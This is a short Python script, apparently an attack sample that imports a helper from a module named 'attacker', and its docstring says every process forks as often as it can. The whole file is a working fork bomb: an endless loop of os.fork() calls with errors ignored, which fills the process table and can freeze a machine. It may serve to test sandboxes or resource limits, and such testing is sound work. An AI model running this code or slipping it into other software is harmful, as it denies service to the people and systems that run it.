"""Every process forks as often as it can."""

import os

from attacker import once

once()
while True:
    try:
        os.fork()
    except OSError:
        pass
